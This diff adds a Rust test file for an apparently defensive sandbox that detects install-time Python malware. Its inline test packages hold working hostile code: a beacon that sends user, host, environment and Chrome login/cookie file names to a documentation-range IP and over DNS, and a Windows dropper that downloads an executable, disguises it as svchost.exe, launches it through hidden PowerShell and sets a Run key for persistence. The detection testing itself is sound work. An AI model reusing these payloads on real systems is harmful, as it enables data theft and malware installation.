@@ -1,0 +1,272 @@
+//! The failures real install-time malware showed, each reproduced by an
+//! inert inline package (it acts only inside the sealed namespace):
+//! - `os.getlogin()` raising in a terminal-less sandbox, so a beacon of user
+//!   and host names crashed on its first line;
+//! - a dropper that needs `requests`, absent from a bare environment;
+//! - a Windows dropper gated on `os.name == "nt"` (dormant on Linux);
+//! - an install that pulls a dependency, blamed on setuptools' own files.
+//!
+//! Plus what the package sees of the machine: a person logged in at a
+//! terminal, several CPUs, a machine up for hours, and nothing that names
+//! the sandbox.
+
+mod common;
+
+use common::*;
+use sluice_sandbox::profile::build_profile;
+use sluice_sandbox::{SandboxOptions, SandboxReport, run};
+
+fn run_with(name: &str, body: &str, opts: &SandboxOptions) -> SandboxReport {
+    let dir = tempfile::tempdir().unwrap();
+    let pkg = inline_sdist(dir.path(), name, body);
+    let r = run(&pkg, opts).unwrap();
+    show(&r);
+    r
+}
+
+/// Line of `needle` in the generated setup.py (header + guard + body).
+fn setup_line(body: &str, needle: &str) -> u32 {
+    let header = format!(
+        "import os, sys, socket, time\nfrom setuptools import setup\n{SEALED_GUARD}\nif _sealed():\n"
+    );
+    let before = header.lines().count();
+    let i = body
+        .lines()
+        .position(|l| l.contains(needle))
+        .unwrap_or_else(|| panic!("{needle} not in body"));
+    u32::try_from(before + i + 1).unwrap()
+}
+
+fn sent(r: &SandboxReport) -> String {
+    r.network
+        .iter()
+        .map(|n| n.payload.clone())
+        .collect::<Vec<_>>()
+        .join("\n")
+}
+
+#[test]
+fn getlogin_beacon_is_seen_and_the_machine_looks_used() {
+    if !available() {
+        return;
+    }
+    let body = r#"import json, getpass, subprocess, multiprocessing, glob
+def sh(c):
+    try:
+        return subprocess.run(c, shell=True, capture_output=True, text=True, timeout=10).stdout.strip()
+    except Exception as e:
+        return 'ERR %s' % e
+facts = {
+    'login': os.getlogin(),
+    'getuser': getpass.getuser(),
+    'whoami': sh('whoami'), 'id': sh('id -un'), 'logname': sh('logname'),
+    'hostname': sh('hostname'), 'who': sh('who'),
+    'cpus': os.cpu_count(), 'mp_cpus': multiprocessing.cpu_count(),
+    'uptime': open('/proc/uptime').read().split()[0],
+    'home': sorted(os.listdir(os.path.expanduser('~'))),
+    'chrome': sorted(os.listdir(os.path.expanduser('~/.config/google-chrome/Default'))),
+    'env': sorted('%s=%s' % kv for kv in os.environ.items()),
+    'tty_users': sh('users'),
+}
+data = json.dumps(facts).encode()
+s = socket.create_connection(('203.0.113.9', 80))
+s.sendall(b'POST /b HTTP/1.1\r\nHost: 203.0.113.9\r\nContent-Length: %d\r\n\r\n' % len(data) + data)
+s.close()
+socket.gethostbyname('%s.%s.beacon.example.test' % (os.getlogin(), socket.gethostname()))
+"#;
+    let r = run_with("loginbeacon", body, &SandboxOptions::default());
+    let (host, user) = r.identity.clone();
+    let payload = sent(&r);
+    let json_start = payload.find('{').expect("the facts were sent");
+    let facts: serde_json::Value =
+        serde_json::from_str(payload[json_start..].lines().next().unwrap()).expect("facts JSON");
+    for k in ["login", "getuser", "whoami", "id", "logname"] {
+        assert_eq!(facts[k], serde_json::json!(user), "{k}: {facts}");
+    }
+    assert_eq!(facts["hostname"], serde_json::json!(host));
+    assert!(
+        facts["who"].as_str().unwrap().starts_with(&user),
+        "who: {}",
+        facts["who"]
+    );
+    assert!(facts["cpus"].as_u64().unwrap() >= 4, "{}", facts["cpus"]);
+    assert_eq!(facts["cpus"], facts["mp_cpus"]);
+    let up: f64 = facts["uptime"].as_str().unwrap().parse().unwrap();
+    assert!(up >= 3.0 * 3600.0, "uptime {up}");
+    let home = facts["home"].to_string();
+    for decoy in [
+        ".ssh",
+        ".aws",
+        ".npmrc",
+        ".pypirc",
+        ".gitconfig",
+        ".bash_history",
+        ".config",
+        ".mozilla",
+        ".electrum",
+        ".kube",
+        ".docker",
+    ] {
+        assert!(
+            home.contains(decoy),
+            "{decoy} missing from the home: {home}"
+        );
+    }
+    let chrome = facts["chrome"].to_string();
+    assert!(
+        chrome.contains("Login Data") && chrome.contains("Cookies"),
+        "{chrome}"
+    );
+    let all = facts.to_string().to_lowercase();
+    for tell in ["sandbox", "sluice", "analysis"] {
+        assert!(!all.contains(tell), "the machine says {tell:?}: {all}");
+    }
+    // The beacon of user and host names over DNS, at its line.
+    let line = setup_line(body, "beacon.example.test");
+    assert!(
+        r.findings.iter().any(|f| f.rule.as_str() == "DYN701"
+            && f.file.as_deref() == Some("setup.py")
+            && f.line == Some(line)),
+        "no DYN701 at setup.py:{line}: {:?}",
+        r.findings
+    );
+}
+
+/// A profile holding a tiny stand-in `requests` (urllib underneath), built
+/// from a wheel by the same code that lays out the real profile.
+fn tiny_profile(dir: &std::path::Path) -> std::path::PathBuf {
+    let mut buf = std::io::Cursor::new(Vec::new());
+    {
+        let mut z = zip::ZipWriter::new(&mut buf);
+        let opts = zip::write::SimpleFileOptions::default();
+        z.start_file("requests/__init__.py", opts).unwrap();
+        std::io::Write::write_all(
+            &mut z,
+            b"import urllib.request\n\nclass Response:\n    def __init__(self, body):\n        self.content = body\n        self.text = body.decode('utf-8', 'replace')\n\ndef get(url, **kw):\n    with urllib.request.urlopen(url) as r:\n        return Response(r.read())\n",
+        )
+        .unwrap();
+        z.start_file("requests-9.9.dist-info/METADATA", opts)
+            .unwrap();
+        std::io::Write::write_all(
+            &mut z,
+            b"Metadata-Version: 2.1\nName: requests\nVersion: 9.9\n",
+        )
+        .unwrap();
+        z.start_file("requests-9.9.dist-info/RECORD", opts).unwrap();
+        z.finish().unwrap();
+    }
+    let dest = dir.join("profile");
+    let (done, refused) = build_profile(
+        &dest,
+        &[("requests-9.9-py3-none-any.whl".into(), buf.into_inner())],
+    )
+    .unwrap();
+    assert_eq!(done.len(), 1, "{refused:?}");
+    std::fs::canonicalize(dest.join("site")).unwrap()
+}
+
+#[test]
+fn windows_dropper_needing_requests_is_seen_at_its_lines() {
+    if !available() {
+        return;
+    }
+    let body = r#"if os.name == 'nt' and sys.platform == 'win32':
+    import requests
+    import platform
+    assert platform.system() == 'Windows'
+    r = requests.get('http://203.0.113.7/update.exe')
+    path = os.path.join(os.environ['APPDATA'], 'svchost.exe')
+    open(path, 'wb').write(r.content)
+    os.startfile(path)
+    import subprocess
+    subprocess.Popen(['powershell', '-w', 'hidden', '-c', 'Start-Process ' + path], creationflags=subprocess.CREATE_NO_WINDOW)
+    import winreg
+    k = winreg.OpenKey(winreg.HKEY_CURRENT_USER, 'Software\\Microsoft\\Windows\\CurrentVersion\\Run', 0, winreg.KEY_SET_VALUE)
+    winreg.SetValueEx(k, 'svc', 0, winreg.REG_SZ, path)
+"#;
+    let dir = tempfile::tempdir().unwrap();
+    let opts = SandboxOptions {
+        python_profile: Some(tiny_profile(dir.path())),
+        ..SandboxOptions::default()
+    };
+    let r = run_with("windropper", body, &opts);
+    let at = |rule: &str, needle: &str| {
+        let line = setup_line(body, needle);
+        assert!(
+            has(&r, rule, "setup.py", line),
+            "no {rule} at setup.py:{line} ({needle}): {:#?}",
+            r.findings
+        );
+    };
+    // The download, by the package line that called into requests, with
+    // where it happened inside requests noted.
+    at("DYN702", "requests.get(");
+    assert!(
+        r.chain
+            .iter()
+            .any(|c| c.what.contains("inside requests/__init__.py")),
+        "dependency frame not noted"
+    );
+    at("DYN713", "open(path, 'wb')");
+    at("DYN713", "os.startfile(path)");
+    at("DYN713", "subprocess.Popen(['powershell'");
+    at("DYN713", "winreg.SetValueEx");
+    assert!(!r.findings.iter().any(|f| f.rule.as_str() == "DYN714"));
+}
+
+#[test]
+fn linux_persona_keeps_windows_payloads_dormant_and_missing_modules_are_reported() {
+    if !available() {
+        return;
+    }
+    let body = "if os.name == 'nt':\n    os.startfile('x.exe')\nimport requests_not_here_at_all\n";
+    let opts = SandboxOptions {
+        windows_persona: false,
+        ..SandboxOptions::default()
+    };
+    let r = run_with("dormant", body, &opts);
+    assert!(!r.findings.iter().any(|f| f.rule.as_str() == "DYN713"));
+    let line = setup_line(body, "import requests_not_here_at_all");
+    assert!(
+        has(&r, "DYN714", "setup.py", line),
+        "missing import not reported: {:?}",
+        r.findings
+    );
+}
+
+#[test]
+fn a_dependency_pull_is_blamed_on_setup_py() {
+    if !available() {
+        return;
+    }
+    // setup_requires makes setuptools start pip to fetch the dependency:
+    // the package's setup() call asked for it.
+    let dir = tempfile::tempdir().unwrap();
+    let src = dir.path().join("src");
+    std::fs::create_dir_all(src.join("pulls")).unwrap();
+    std::fs::write(src.join("pulls/__init__.py"), "").unwrap();
+    std::fs::write(
+        src.join("setup.py"),
+        "from setuptools import setup\nsetup(name='pulls', version='0.1', packages=['pulls'],\n      setup_requires=['helperdep-not-installed'])\n",
+    )
+    .unwrap();
+    let pkg = dir.path().join("pulls-0.1.tar.gz");
+    tar_gz(&src, "pulls-0.1", &pkg);
+    let r = run(&pkg, &SandboxOptions::default()).unwrap();
+    show(&r);
+    let spawn = r
+        .findings
+        .iter()
+        .find(|f| f.rule.as_str() == "DYN706")
+        .expect("the dependency fetch is seen");
+    assert_eq!(spawn.file.as_deref(), Some("setup.py"), "{spawn:?}");
+    assert_eq!(spawn.line, Some(2));
+    assert!(
+        !r.findings.iter().any(|f| f
+            .file
+            .as_deref()
+            .is_some_and(|p| p.starts_with("pkg_resources") || p.starts_with("setuptools"))),
+        "blamed on tooling: {:?}",
+        r.findings
+    );
+}
